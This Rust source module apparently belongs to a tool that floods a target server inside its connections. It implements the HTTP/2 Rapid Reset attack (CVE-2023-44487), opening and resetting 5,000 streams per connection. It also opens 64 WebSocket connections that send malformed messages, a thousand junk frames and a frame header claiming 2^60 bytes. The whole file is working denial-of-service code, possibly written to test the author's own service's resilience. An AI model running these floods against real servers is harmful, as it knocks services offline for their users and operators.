//! Floods within connections: HTTP/2's streams, and WebSockets.

use anyhow::Result;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    time::{sleep, timeout},
};

use super::{Attacker, LASTS};
use crate::http2;

/// CVE-2023-44487: each stream is opened and at once reset, so that it never counts as open.
pub(super) async fn rapid_reset(attacker: Attacker) -> Result<()> {
    let mut bytes = http2::preface();
    for stream in (1..).step_by(2).take(5_000) {
        bytes.extend(http2::get(stream));
        bytes.extend(http2::reset(stream));
    }
    let mut open = attacker.connections(8, b"").await;
    for connection in &mut open {
        // The console may close it before it has taken all.
        let _ = timeout(LASTS / 8, connection.write_all(&bytes)).await;
    }
    sleep(LASTS / 4).await;
    Ok(())
}

pub(super) async fn sockets(attacker: Attacker) -> Result<()> {
    let headers = format!(
        "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\
         Origin: {}\r\n",
        attacker.target.origin()
    );
    let upgrade = attacker.target.request("GET", "/ws", &headers, "");
    let upgrade =
        String::from_utf8_lossy(&upgrade).replace("Connection: close\r\n", "").replace("Content-Length: 0\r\n", "");
    let mut open = attacker.connections(64, upgrade.as_bytes()).await;
    for (number, socket) in open.iter_mut().enumerate() {
        // Half of them say what to resume from; the others begin with nonsense.
        let first = if number % 2 == 0 { r#"{"since":null}"# } else { "{" };
        let _ = timeout(LASTS / 32, shout(socket, first)).await;
    }
    sleep(LASTS / 2).await;
    Ok(())
}

/// A message, 1,000 more, and the head of a frame of 2^60 bytes.
async fn shout(socket: &mut TcpStream, first: &str) -> std::io::Result<()> {
    let mut answer = [0; 1024];
    let _ = socket.read(&mut answer).await?;
    socket.write_all(&text_frame(first)).await?;
    socket.write_all(&text_frame("nothing that is understood").repeat(1_000)).await?;
    socket.write_all(&[0x82, 0xff, 0x10, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]).await
}

/// RFC 6455: a final text frame of fewer than 126 bytes, masked with zeros.
fn text_frame(text: &str) -> Vec<u8> {
    let length = u8::try_from(text.len()).unwrap_or(125) | 0x80;
    [&[0x81, length, 0, 0, 0, 0], text.as_bytes()].concat()
}
